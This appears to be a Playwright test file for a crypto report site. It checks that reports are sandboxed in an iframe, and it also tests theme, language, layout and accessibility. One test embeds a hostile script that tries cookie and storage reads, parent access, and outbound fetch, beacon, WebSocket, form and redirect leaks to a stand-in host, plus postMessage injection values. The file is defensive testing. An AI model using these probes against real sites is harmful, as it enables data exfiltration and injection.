"""The pages of reports in a real browser: what is remembered, how a report shows itself in its frame, and that one
which wants to do harm cannot.
"""

import asyncio
import json
import re
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from playwright.async_api import Frame, Page, expect

from serve_apps.daily_report import daily_report
from tests.browser import Visit, visit
from tests.polling import until
from tests.serve_apps.report_world import DIST, ReportWorld, served, world
from tests.serve_apps.test_daily_report import made_up, no_contracts, no_gaps

_SECTIONS = "".join(f"<section><h2>Part {n}</h2><p>{'text ' * 400}</p></section>" for n in range(1, 6))
_ENGLISH = {"title_en": "The day", "html_en": f"{_SECTIONS}<p><a href='https://example.org/a'>outside</a></p>"}

#: Tries everything that would be of use to somebody, and writes down what came of it.
_HOSTILE = """
const told = {};
const attempt = async (name, what) => {
  try {
    const late = new Promise((_, no) => setTimeout(() => no(new Error("timeout")), 1500));
    const result = await Promise.race([what(), late]);
    told[name] = "got " + String(result).slice(0, 80);
  } catch (error) { told[name] = "refused"; }
};
const outside = "OUTSIDE";
const load = (tag, set) => new Promise((yes, no) => {
  const one = document.createElement(tag);
  one.onload = () => yes("loaded"); one.onerror = () => no(new Error("error"));
  set(one); document.body.append(one);
});
(async () => {
  await attempt("cookie", async () => { document.cookie = "own=1"; return document.cookie; });
  await attempt("localStorage", async () => localStorage.length);
  await attempt("sessionStorage", async () => sessionStorage.length);
  await attempt("indexedDB", async () => new Promise((yes, no) => {
    const asked = indexedDB.open("x"); asked.onsuccess = () => yes("open"); asked.onerror = () => no(asked.error); }));
  await attempt("caches", async () => (await caches.keys()).length);
  await attempt("parent document", async () => parent.document.title);
  await attempt("parent location", async () => String(parent.location.href));
  await attempt("top variable", async () => top.secret);
  await attempt("navigate top", async () => { top.location = outside + "/top"; await new Promise(() => {}); });
  await attempt("fetch", async () => (await fetch(outside + "/fetch", { mode: "no-cors" })).type);
  await attempt("fetch own site", async () => (await fetch("/api/v1/reports", { mode: "no-cors" })).type);
  await attempt("beacon", async () => {
    if (!navigator.sendBeacon(outside + "/beacon")) throw new Error("no"); return "sent"; });
  await attempt("xhr", () => new Promise((yes, no) => {
    const asked = new XMLHttpRequest(); asked.onload = yes; asked.onerror = no;
    asked.open("GET", outside + "/xhr"); asked.send(); }));
  await attempt("websocket", () => new Promise((yes, no) => {
    const one = new WebSocket(outside.replace("http", "ws") + "/ws");
    one.onopen = () => yes("open"); one.onerror = no; }));
  await attempt("events", () => new Promise((yes, no) => {
    const one = new EventSource(outside + "/events"); one.onopen = () => yes("open"); one.onerror = no; }));
  await attempt("image", () => load("img", (one) => { one.src = outside + "/image"; }));
  await attempt("script", () => load("script", (one) => { one.src = outside + "/script.js"; }));
  await attempt("inline script", async () => { const one = document.createElement("script");
    one.textContent = "window.inlined = 1"; document.body.append(one);
    if (!window.inlined) throw new Error("no"); return 1; });
  await attempt("eval", async () => eval("1 + 1"));
  await attempt("style", () => load("link", (one) => { one.rel = "stylesheet"; one.href = outside + "/style.css"; }));
  await attempt("prefetch", () => load("link", (one) => { one.rel = "prefetch"; one.href = outside + "/prefetch"; }));
  await attempt("preconnect", async () => { const one = document.createElement("link"); one.rel = "preconnect";
    one.href = outside; document.head.append(one); throw new Error("looked at by the server outside"); });
  await attempt("frame", async () => { const one = document.createElement("iframe"); one.src = outside + "/frame";
    document.body.append(one); await new Promise((yes) => setTimeout(yes, 500)); return one.contentDocument.title; });
  await attempt("worker", () => new Promise((yes, no) => {
    const one = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    one.onmessage = yes; one.onerror = no; }));
  await attempt("popup", async () => window.open(outside + "/popup").closed);
  await attempt("form", async () => { const one = document.createElement("form"); one.action = outside + "/form";
    one.method = "post"; document.body.append(one); one.submit(); await new Promise(() => {}); });
  await attempt("rtc", async () => new RTCPeerConnection().connectionState);
  await attempt("modal", async () => { if (confirm("?") !== true) throw new Error("no"); return "asked"; });
  parent.postMessage({ type: "rayfeed:size", height: 1e9, sections: ["x", NaN, -1] }, "*");
  parent.postMessage({ type: "rayfeed:size", height: "900px; } body { display: none }" }, "*");
  parent.postMessage({ type: "rayfeed:link", address: "javascript:alert(1)" }, "*");
  parent.postMessage(null, "*");
  document.documentElement.dataset.told = JSON.stringify(told);
})();
"""


class Outside:
    """A server somewhere else; it notes what is asked, "" for who only connects."""

    def __init__(self) -> None:
        self.asked: list[str] = []

    async def connected(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        line = await reader.readline()
        self.asked.append(line.decode("latin-1").strip())
        writer.write(
            b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )
        writer.close()


@asynccontextmanager
async def outside() -> AsyncIterator[tuple[Outside, str]]:
    told = Outside()
    server = await asyncio.start_server(told.connected, "127.0.0.1", 0)
    async with server:
        yield told, f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}"


@asynccontextmanager
async def opened(made: ReportWorld, path: str, **options: Any) -> AsyncIterator[tuple[Visit, str]]:
    async with served(made.pages) as port, visit(**options) as seen:
        site = f"http://127.0.0.1:{port}"
        await seen.page.goto(site + path)
        yield seen, site


async def frame_of(page: Page) -> Frame:
    element = await page.wait_for_selector("iframe#report")
    frame = await element.content_frame()
    assert frame is not None
    await frame.wait_for_load_state()
    return frame


async def told_by(page: Page) -> dict[str, str]:
    inside = page.frame_locator("#report").locator("html")
    await expect(inside).to_have_attribute("data-told", re.compile(".+"), timeout=60_000)
    said: dict[str, str] = json.loads(str(await inside.get_attribute("data-told")))
    return said


async def test_a_hostile_report_gets_at_nothing(tmp_path: Path) -> None:
    async with world(tmp_path) as made, outside() as (told, address):
        js = _HOSTILE.replace("OUTSIDE", address)
        css = f"@import url({address}/import.css); body {{ background: url({address}/css.png) }}"
        css += " html { position: fixed; inset: 0; z-index: 9999 }"
        await made.publish("x", js_vi=js, css=css, html_vi=f"<p>x</p><img src='{address}/html.png'>")
        async with served(made.pages) as port, visit() as seen:
            site, page = f"http://127.0.0.1:{port}", seen.page
            await page.context.add_cookies([{"name": "session", "value": "secret", "url": site}])
            await page.add_init_script(
                "if (window === top) { window.secret = 'secret'; localStorage.setItem('own', 'secret'); }"
            )
            await page.goto(f"{site}/crypto_report?lang=vi")
            result = await told_by(page)
            # A beacon is refused after it says that it was sent: the server outside knows.
            got = {name: said for name, said in result.items() if said != "refused" and name != "beacon"}
            assert got == {}
            assert "secret" not in str(result)
            # The page around it is as it was.
            assert page.url == f"{site}/crypto_report?lang=vi"
            assert await page.evaluate("document.cookie.includes('own=')") is False
            height = await page.evaluate("document.querySelector('#report').offsetHeight")
            assert 0 < height < 5000
            await expect(page.locator("#link")).to_be_hidden()
            await expect(page.locator("h1")).to_be_visible()
            assert len(page.context.pages) == 1
            assert len(page.frames) <= 3
        # A browser may connect for `preconnect`, which no policy forbids; nobody says anything there.
        assert [line for line in told.asked if line] == []


async def test_a_frame_that_goes_elsewhere_takes_nothing_with_it(tmp_path: Path) -> None:
    async with world(tmp_path) as made, outside() as (told, address):
        await made.publish("x", js_vi=f"setTimeout(() => {{ location.href = '{address}/leak?all=1'; }}, 50)")
        async with opened(made, "/crypto_report") as (seen, _):
            await until(lambda: any("frame-src" in error.lower() for error in seen.errors), 20)
            await expect(seen.page.locator("h1")).to_be_visible()
        # Chromium connects to where a frame wants to go before it finds out that it may not, and says nothing there.
        assert [line for line in told.asked if line] == []


async def test_a_frame_opened_by_itself_is_nobody_too(tmp_path: Path) -> None:
    async with world(tmp_path) as made:
        await made.publish("x", js_vi="document.documentElement.dataset.origin = self.origin")
        async with opened(made, "/crypto_report") as (seen, site):
            address = await seen.page.get_attribute("#report", "src")
            await seen.page.goto(site + str(address))
            assert await seen.page.evaluate("document.documentElement.dataset.origin") == "null"
            assert (
                await seen.page.evaluate("(() => { try { return localStorage.length } catch { return 'no' } })()")
                == "no"
            )


async def test_no_other_site_can_frame_a_report(tmp_path: Path) -> None:
    async with world(tmp_path) as made:
        await made.publish("x")
        for path in ("/crypto_report", "/crypto_reports_list", "/pdf-template/1"):
            answer = await made.get(path)
            assert answer.headers["x-frame-options"] == "DENY"


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_language_and_theme_survive_a_reload(tmp_path: Path, scheme: Any) -> None:
    other = "dark" if scheme == "light" else "light"
    async with world(tmp_path) as made:
        await made.publish("Ngày", **_ENGLISH)
        async with opened(made, "/crypto_report", color_scheme=scheme) as (seen, site):
            page, html = seen.page, seen.page.locator("html")
            await expect(html).to_have_attribute("lang", "en")
            await expect(html).to_have_attribute("data-theme", scheme)
            inside = page.frame_locator("#report").locator("html")
            await expect(inside).to_have_attribute("data-theme", scheme)
            await page.click("#theme")
            await expect(html).to_have_attribute("data-theme", other)
            await expect(inside).to_have_attribute("data-theme", other)
            await page.click("#language")
            await expect(html).to_have_attribute("lang", "vi")
            await expect(page.locator("h1")).to_have_text("Ngày")
            await page.reload()
            await expect(html).to_have_attribute("lang", "vi")
            await expect(html).to_have_attribute("data-theme", other)
            await expect(inside).to_have_attribute("data-theme", other)
            await page.goto(f"{site}/crypto_reports_list")
            await expect(html).to_have_attribute("lang", "vi")
            cookies = {cookie["name"]: cookie for cookie in await page.context.cookies()}
            assert (cookies["preferred_language"]["value"], cookies["preferred_language"]["sameSite"]) == ("vi", "Lax")
            assert await page.evaluate("localStorage.preferred_language") == "vi"
            # An address that says a language is left when another is chosen.
            await page.goto(f"{site}/crypto_report?lang=vi")
            await page.click("#language")
            await expect(html).to_have_attribute("lang", "en")
            assert page.url == f"{site}/crypto_report"
            assert seen.errors == []
            assert seen.origins == {site}


async def test_a_report_takes_the_height_it_needs_and_its_contents_lead_into_it(tmp_path: Path) -> None:
    async with world(tmp_path) as made:
        await made.publish("Ngày", **_ENGLISH)
        async with opened(made, "/crypto_report") as (seen, _):
            page = seen.page
            frame = await frame_of(page)
            wanted = await frame.evaluate("Math.ceil(document.body.getBoundingClientRect().height)")

            async def fits() -> bool:
                height = await page.evaluate("document.querySelector('#report').offsetHeight")
                scrolls = await frame.evaluate("document.documentElement.scrollHeight > innerHeight + 2")
                return bool(height >= wanted > 1000 and not scrolls)

            await until(fits)
            await page.click("#contents a >> nth=3")
            await expect(page.locator("#contents a >> nth=3")).to_have_attribute("aria-current", "true")
            assert await page.evaluate("document.querySelector('#progress').value") > 0.2
            heading = frame.locator("h2 >> nth=3")
            await expect(heading).to_be_in_viewport()
            # Where a link leads is shown, and nothing goes there.
            await frame.locator("a").click()
            await expect(page.locator("#link a")).to_have_attribute("href", "https://example.org/a")
            assert len(seen.requests) < 12
            await page.click("#link button")
            await expect(page.locator("#link")).to_be_hidden()
            assert seen.errors == []


async def test_scripts_of_a_report_draw_in_its_frame(tmp_path: Path) -> None:
    js = """
    window.initializeAllVisuals_report = () => { document.querySelector("#chart").textContent = "drawn"; };
    addEventListener("themeChanged", (event) => { document.querySelector("#theme").textContent = event.detail.theme; });
    """
    async with world(tmp_path) as made:
        await made.publish(
            "Ngày", js_vi=js, html_vi="<p id='chart'></p><p id='theme'></p>", css="#chart { color: rgb(1, 2, 3) }"
        )
        async with opened(made, "/crypto_report?lang=vi", color_scheme="dark") as (seen, _):
            inside = seen.page.frame_locator("#report")
            await expect(inside.locator("#chart")).to_have_text("drawn")
            await expect(inside.locator("#chart")).to_have_css("color", "rgb(1, 2, 3)")
            await expect(inside.locator("#theme")).to_have_text("dark")
            assert seen.errors == []


@pytest.mark.parametrize("path", ["/crypto_reports_list", "/crypto_report/1", "/crypto_report/99", "/pdf-template/1"])
async def test_every_page_loads_without_errors_from_this_site_alone(tmp_path: Path, path: str) -> None:
    async with world(tmp_path) as made:
        for number in range(12):
            await made.publish(f"report {number}", **_ENGLISH)
        async with opened(made, path, viewport={"width": 360, "height": 740}) as (seen, site):
            await expect(seen.page.locator("h1").first).to_be_visible()
            assert await seen.page.evaluate("document.documentElement.scrollWidth <= innerWidth")
            assert seen.origins == {site}
            assert [error for error in seen.errors if "404" not in error] == []


@pytest.mark.parametrize("scheme", ["light", "dark"])
async def test_nothing_keeps_readers_out_who_cannot_see_or_point(tmp_path: Path, scheme: Any) -> None:
    """axe-core finds nothing serious on any page, nor in the frame of the daily report."""
    axe = DIST.parent / "node_modules" / "axe-core" / "axe.min.js"
    async with world(tmp_path) as made:
        for number in range(12):
            await made.publish(f"report {number}", **_ENGLISH)
        given = daily_report(date(2026, 1, 30), made_up(), no_gaps(), no_contracts())
        await made.publish(given.pop("title_vi"), **given)
        async with opened(made, "/crypto_report", color_scheme=scheme) as (seen, site):
            for path in ("/crypto_report", "/crypto_reports_list?page=2", "/crypto_report/99", "/pdf-template/13"):
                await seen.page.goto(site + path)
                frames = [seen.page.main_frame]
                if path == "/crypto_report":
                    frames.append(await frame_of(seen.page))
                for frame in frames:
                    await frame.evaluate(axe.read_text())
                    found = await frame.evaluate("axe.run(document, { iframes: false })")
                    serious = [one for one in found["violations"] if one["impact"] in ("serious", "critical")]
                    said = [(one["id"], [node["html"][:120] for node in one["nodes"]][:3]) for one in serious]
                    assert said == [], (path, scheme)
